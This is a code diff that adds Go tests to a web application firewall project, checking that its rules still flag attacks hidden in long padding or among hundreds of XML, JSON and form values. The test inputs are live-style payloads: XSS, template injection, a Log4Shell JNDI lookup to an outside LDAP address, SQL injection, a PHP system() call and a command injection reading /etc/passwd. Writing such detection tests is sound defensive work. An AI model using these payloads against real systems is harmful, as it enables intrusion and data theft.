@@ -1,6 +1,7 @@
 package builtin
 
 import (
+	"strings"
 	"testing"
 
 	"github.com/tocsin-project/tocsin/waf"
@@ -25,4 +26,35 @@ func TestAttacks(t *testing.T) {
 		}
 	}
 	t.Logf("%d of %d are likely only", likely, len(rows))
+}
+
+// Attacks that stand behind so much padding that neither the beginning nor the end of a value
+// has them are stopped, too.
+func TestAttacksInTheMiddle(t *testing.T) {
+	rules := own(t)
+	for _, attack := range []string{"<svg onload=alert(1)>", "{{7*7}}", "${jndi:ldap://203.0.113.9/a}", "1' or '1'='1", "<?php system('id');?>"} {
+		for _, padding := range []string{"(", "a", "=", "a.b-"} {
+			pad := strings.Repeat(padding, 9<<10)
+			r := row{where: "arg", name: "id", text: pad + attack + pad}
+			s := r.request(t)
+			if c, name := strongest(s.matches(rules)); c > waf.Likely {
+				t.Errorf("%s within %q passes (%s)", attack, padding, name)
+			}
+		}
+	}
+}
+
+// An attack with as many values around it as XML, JSON and forms may have is found.
+func TestAttacksAmongManyValues(t *testing.T) {
+	rules := own(t)
+	const many = 300
+	for _, r := range []row{
+		{where: "raw", name: "text/xml", text: `<?xml version="1.0"?><r>` + strings.Repeat("<a>it's x</a>", many) + `<b>1' or '1'='1</b></r>`},
+		{where: "form", name: "data", text: "[" + strings.Repeat(`"it's x",`, many) + `"127.0.0.1;cat /etc/passwd"]`},
+	} {
+		s := r.request(t)
+		if c, name := strongest(s.matches(rules)); c != waf.Certain {
+			t.Errorf("%v: %v by %s", &r, c, name)
+		}
+	}
 }
